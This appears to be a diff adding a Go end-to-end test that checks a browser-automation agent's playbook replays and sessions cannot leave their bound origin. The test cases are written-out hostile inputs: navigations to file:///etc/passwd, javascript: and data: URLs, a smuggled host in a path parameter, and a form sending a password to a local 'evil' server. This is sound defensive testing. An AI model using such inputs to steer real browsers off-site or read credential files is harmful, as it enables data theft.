@@ -1,0 +1,106 @@
+package e2e
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/rote-agent/rote/bus"
+	"github.com/rote-agent/rote/cmd/rote/node"
+	"github.com/rote-agent/rote/schema"
+)
+
+// TestReplaysStayOnTheirOrigin replays playbooks that try to take the
+// page off the site they are bound to: other schemes, a parameter that
+// escapes a relative path, a redirect, a link, a script and a form that
+// go to another origin. Each stops with out_of_origin, and the other
+// origin never hears a request. An agent's session is held the same way.
+func TestReplaysStayOnTheirOrigin(t *testing.T) {
+	t.Parallel()
+	var stolen atomic.Int64
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		stolen.Add(1)
+		io.WriteString(w, "<main><h1>Thanks</h1></main>")
+	}))
+	t.Cleanup(evil.Close)
+	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/redirect":
+			http.Redirect(w, r, evil.URL+"/steal", http.StatusFound)
+		case "/":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprintf(w, `<!doctype html><main><h1>Home</h1><a href="%[1]s/steal">Partner</a>
+<button onclick="location.href='%[1]s/js'">Jump</button>
+<form action="%[1]s/post" method="post"><input name="pw" aria-label="Password"><button>Send</button></form></main>`, evil.URL)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(home.Close)
+	evilHost := strings.TrimPrefix(evil.URL, "http://")
+	n := start(t, nil, node.Browser...)
+
+	open := `{id: open, kind: deterministic, tool: navigate, args: {url: /}}`
+	cases := []struct {
+		name, steps string
+		params      map[string]string
+	}{
+		{"file", `{id: go, kind: deterministic, tool: navigate, args: {url: "file:///etc/passwd"}}`, nil},
+		{"chrome", `{id: go, kind: deterministic, tool: navigate, args: {url: "chrome://version"}}`, nil},
+		{"view-source", `{id: go, kind: deterministic, tool: navigate, args: {url: "view-source:` + home.URL + `/"}}`, nil},
+		{"javascript", `{id: go, kind: deterministic, tool: navigate, args: {url: "javascript:location='` + evil.URL + `/js'"}}`, nil},
+		{"data", `{id: go, kind: deterministic, tool: navigate, args: {url: "data:text/html,<form action=` + evil.URL + `>"}}`, nil},
+		{"parameter escape", `{id: go, kind: deterministic, tool: navigate, args: {url: "/{{page}}"}}`, map[string]string{"page": "/" + evilHost + "/steal"}},
+		{"another origin", `{id: go, kind: deterministic, tool: navigate, args: {url: "` + evil.URL + `/steal?p={{page}}"}}`, map[string]string{"page": "hunter2"}},
+		{"backslash", `{id: go, kind: deterministic, tool: navigate, args: {url: "/\\` + evilHost + `/steal"}}`, nil}, // a browser reads /\host as //host; this one goes to a path on the site
+		{"redirect", `{id: go, kind: deterministic, tool: navigate, args: {url: /redirect}}`, nil},
+		{"link", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
+		{"script", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Jump}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
+		{"form", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send}}`, map[string]string{"page": "hunter2"}},
+	}
+	for _, c := range cases {
+		params := "{}"
+		if c.params != nil {
+			params = "{page: {type: string, required: true}}"
+		}
+		p := decodeOrFail(t, "name: escape\nintent: go somewhere\nparams: "+params+"\nsteps: ["+c.steps+"]\nverify: [{url_contains: /}]\n")
+		res := browserReplay(t, n, p, home.URL, c.params)
+		if c.name == "backslash" && res.Outcome == schema.OutcomeSuccess {
+			continue // and the other origin heard nothing: checked below
+		}
+		if res.Outcome == schema.OutcomeSuccess || !errors.Is(res.Reason, schema.ErrOutOfOrigin) {
+			t.Errorf("%s: outcome %s at %s (%v), want out_of_origin", c.name, res.Outcome, res.FailedStep, res.Reason)
+		}
+	}
+	if got := stolen.Load(); got != 0 {
+		t.Fatalf("the other origin heard %d requests", got)
+	}
+
+	// A session confined to the site's origin, as the agent's is.
+	ctx := testContext(t)
+	s, err := n.Bus().Browsers().Open(ctx, bus.NewID(), home.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close(ctx)
+	for _, to := range []string{home.URL + "/", evil.URL + "/agent", "file:///etc/passwd"} {
+		ev, err := s.Act(ctx, "", schema.Action{Kind: schema.ActNavigate, URL: to})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if refused := ev.Error != nil && errors.Is(ev.Error, schema.ErrOutOfOrigin); refused != (to != home.URL+"/") {
+			t.Errorf("navigate %s: %v", to, ev.Error)
+		}
+	}
+	if _, err := n.Bus().Browsers().Open(ctx, bus.NewID(), "file:///"); !errors.Is(err, schema.ErrInvalid) {
+		t.Errorf("a session confined to file:///: %v", err)
+	}
+	if got := stolen.Load(); got != 0 {
+		t.Fatalf("the other origin heard %d requests from the agent's session", got)
+	}
+}
